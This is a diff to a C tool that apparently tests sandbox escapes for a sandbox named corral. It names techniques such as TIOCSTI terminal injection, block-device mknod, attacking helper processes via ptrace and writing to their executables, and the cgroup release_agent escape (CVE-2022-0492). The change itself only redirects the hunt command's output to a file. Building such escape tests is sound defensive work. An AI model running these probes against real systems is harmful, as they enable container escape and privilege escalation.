@@ -10,7 +10,8 @@
  *   mknod PATH MAJOR MINOR   mknod a block device, then open it
  *   sti FD TEXT              TIOCSTI each byte of TEXT into FD
  *   tioclinux FD             TIOCLINUX (TIOCL_GETSHIFTSTATE)
- *   hunt SECONDS             watch for corral-helper processes and attack them
+ *   hunt SECONDS OUT         watch for corral-helper processes and attack them, report to
+ *                            OUT (not stdout: a tracee must never wait on our output)
  *   release-agent DIR        mount each cgroup v1 hierarchy under DIR, write back release_agent
  *   caps                     CapInh/CapAmb/CapEff of ourselves
  */
@@ -200,11 +201,14 @@ static double now(void)
 	return ts.tv_sec + ts.tv_nsec / 1e9;
 }
 
-static int cmd_hunt(double seconds)
+static int cmd_hunt(double seconds, const char *out)
 {
 	int seen[256], nseen = 0, opath[64], npath = 0;
 	char path[64], exe[4096];
-	setvbuf(stdout, NULL, _IOLBF, 0);
+	/* A helper we SEIZEd cannot be reaped by its parent until we detach: a
+	 * write that blocks (a full pipe nobody drains) must never come between. */
+	if (!freopen(out, "w", stdout))
+		return perror(out), 1;
 	printf("hunting\n");
 	for (double end = now() + seconds; now() < end;) {
 		DIR *d = opendir("/proc");
@@ -250,7 +254,7 @@ static int cmd_hunt(double seconds)
 		try_write_exe(i, open(path, O_WRONLY | O_CLOEXEC), "reopen-exe");
 	}
 	printf("seen %d\n", nseen);
-	return 0;
+	return fclose(stdout) == 0 ? 0 : 1;
 }
 
 /* CVE-2022-0492: a cgroup v1 hierarchy mounted from inside, and its
@@ -309,7 +313,7 @@ int main(int argc, char **argv)
 	if (!strcmp(c, "tioclinux") && argc > 2)
 		return cmd_tioclinux(atoi(argv[2]));
 	if (!strcmp(c, "hunt") && argc > 2)
-		return cmd_hunt(atof(argv[2]));
+		return cmd_hunt(atof(argv[2]), argc > 3 ? argv[3] : "/dev/stdout");
 	if (!strcmp(c, "release-agent") && argc > 2)
 		return cmd_release_agent(argv[2]);
 	if (!strcmp(c, "caps"))
